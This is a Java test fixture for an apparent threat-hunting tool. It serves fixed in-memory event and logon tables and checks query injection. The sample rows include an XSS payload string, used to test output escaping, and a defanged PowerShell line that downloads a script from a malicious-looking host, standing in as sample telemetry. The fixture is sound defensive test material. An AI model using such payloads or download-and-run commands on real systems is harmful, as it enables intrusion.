package dev.hunt4j.runtime.pipeline;

import dev.hunt4j.api.PluginSettings;
import dev.hunt4j.api.QueryException;
import dev.hunt4j.api.data.Column;
import dev.hunt4j.api.data.ColumnType;
import dev.hunt4j.api.data.ResultStream;
import dev.hunt4j.api.query.QueryLanguage;
import dev.hunt4j.api.query.QueryLanguages;
import dev.hunt4j.api.query.QueryProvider;
import dev.hunt4j.api.query.QueryProviderFactory;
import java.net.URL;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * A provider over fixed in-memory tables (embedded mode, found through the test classpath's extension index). Query
 * text: {@code TABLE} or {@code TABLE | COLUMN == "VALUE"} (the value a FILES string literal); the time range is
 * applied to {@code TimeGenerated}. Every text it ran is kept in {@link #QUERIES}.
 */
@org.pf4j.Extension
public class TestProviderFactory implements QueryProviderFactory {
    static final List<String> QUERIES = java.util.Collections.synchronizedList(new ArrayList<>());
    static final String HOSTILE = "</script><img src=x onerror=alert(1)>\"'&";

    static final List<Column> EVENTS = List.of(new Column("TimeGenerated", ColumnType.TIMESTAMP), new Column("Computer", ColumnType.STRING),
            new Column("Account", ColumnType.STRING), new Column("EventID", ColumnType.LONG), new Column("CommandLine", ColumnType.STRING));
    static final List<Object[]> EVENT_ROWS = List.of(
            new Object[] {t("2026-03-03T10:00:00Z"), "WKS-01", "alice", 4688L, "cmd.exe /c whoami"},
            new Object[] {t("2026-03-03T10:05:00Z"), "WKS-01", "alice", 4688L, "powershell -c iwr hxxp://bad-updates[.]net/a.ps1"},
            new Object[] {t("2026-03-03T11:00:00Z"), "WKS-02", "bob", 4688L, HOSTILE},
            new Object[] {t("2026-03-04T09:00:00Z"), "WKS-02", "bob", 4689L, "ping 203.0.113.9"},
            new Object[] {t("2026-03-05T09:00:00Z"), "SRV-01", "carol", 4688L, "notepad.exe"});
    static final List<Column> LOGONS = List.of(new Column("TimeGenerated", ColumnType.TIMESTAMP), new Column("Computer", ColumnType.STRING),
            new Column("TargetUserName", ColumnType.STRING), new Column("IpAddress", ColumnType.STRING), new Column("EventID", ColumnType.LONG));
    static final List<Object[]> LOGON_ROWS = List.of(
            new Object[] {t("2026-03-03T09:00:00Z"), "WKS-01", "alice", "203.0.113.9", 4625L},
            new Object[] {t("2026-03-03T09:01:00Z"), "WKS-01", "bob", "203.0.113.9", 4625L},
            new Object[] {t("2026-03-03T09:02:00Z"), "WKS-01", "carol", "203.0.113.9", 4625L},
            new Object[] {t("2026-03-03T09:03:00Z"), "WKS-01", "alice", "203.0.113.9", 4624L},
            new Object[] {t("2026-03-03T09:30:00Z"), "WKS-02", "bob", "10.0.0.5", 4624L});

    static final String PARTIAL_WARNING = "time chunk 2 of 3 (2026-03-04T00:00:00Z..2026-03-05T00:00:00Z) failed: engine failure";

    /** The events without 2026-03-04, as a provider returns them when that day's chunk failed and was skipped. */
    private static ResultStream partialEvents() {
        ResultStream rows = ResultStream.of(EVENTS, EVENT_ROWS.stream().filter(r -> !r[0].toString().startsWith("2026-03-04")).toList());
        return new ResultStream() {
            @Override
            public List<Column> columns() {
                return rows.columns();
            }

            @Override
            public Object[] next() {
                return rows.next();
            }

            @Override
            public void close() {
                rows.close();
            }

            @Override
            public List<String> warnings() {
                return List.of(PARTIAL_WARNING);
            }
        };
    }

    private static Instant t(String s) {
        return Instant.parse(s);
    }

    @Override
    public String type() {
        return "pipeline-test";
    }

    @Override
    public String description() {
        return "fixed tables for the pipeline tests";
    }

    @Override
    public QueryLanguage language() {
        return QueryLanguages.FILES;
    }

    @Override
    public java.util.Set<String> dataEnvironments() {
        return java.util.Set.of("PipelineTest");
    }

    @Override
    public List<URL> builtinQueryFiles() {
        return List.of(getClass().getResource("/dev/hunt4j/runtime/pipeline/test-queries.yaml"));
    }

    @Override
    public Map<String, String> knownSettings() {
        return Map.of();
    }

    @Override
    public QueryProvider connect(PluginSettings settings) {
        return (query, options) -> {
            QUERIES.add(query);
            String[] parts = query.split("\\|", 2);
            String table = parts[0].trim();
            List<Column> cols;
            List<Object[]> rows;
            switch (table) {
                case "events" -> {
                    cols = EVENTS;
                    rows = EVENT_ROWS;
                }
                case "logons" -> {
                    cols = LOGONS;
                    rows = LOGON_ROWS;
                }
                case "broken" -> throw new QueryException("table 'broken' is broken on purpose");
                case "partial" -> {
                    return partialEvents();
                }
                default -> throw new QueryException("no table '" + table + "'");
            }
            List<Object[]> out = new ArrayList<>();
            for (Object[] r : rows) {
                if (options.timeRange() != null && !options.timeRange().contains((Instant) r[0])) {
                    continue;
                }
                if (parts.length > 1 && !matches(cols, r, parts[1].trim())) {
                    continue;
                }
                out.add(r);
            }
            return ResultStream.of(cols, out);
        };
    }

    /** {@code COL == "value"} with FILES escapes. */
    private static boolean matches(List<Column> cols, Object[] row, String cond) {
        int eq = cond.indexOf("==");
        String col = cond.substring(0, eq).trim();
        String lit = cond.substring(eq + 2).trim();
        if (!lit.startsWith("\"") || !lit.endsWith("\"")) {
            throw new QueryException("expected a string literal: " + lit);
        }
        StringBuilder v = new StringBuilder();
        for (int i = 1; i < lit.length() - 1; i++) {
            char c = lit.charAt(i);
            if (c == '\\') {
                c = lit.charAt(++i);
            } else if (c == '"') {
                throw new QueryException("the literal ends early: the value changed the query's structure");
            }
            v.append(c);
        }
        for (int i = 0; i < cols.size(); i++) {
            if (cols.get(i).name().equals(col)) {
                return v.toString().equals(String.valueOf(row[i]));
            }
        }
        throw new QueryException("no column " + col);
    }
}
